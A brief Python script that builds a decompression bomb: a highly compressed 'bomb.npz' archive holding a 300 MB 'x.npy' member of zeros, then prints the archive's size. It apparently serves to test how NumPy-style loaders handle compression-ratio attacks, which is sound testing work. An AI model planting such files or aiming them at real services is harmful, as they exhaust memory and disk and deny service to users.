import zipfile

with zipfile.ZipFile("bomb.npz", "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
    with archive.open("x.npy", "w") as member:
        for _ in range(300):
            member.write(bytes(10**6))
import os

print(os.path.getsize("bomb.npz"))
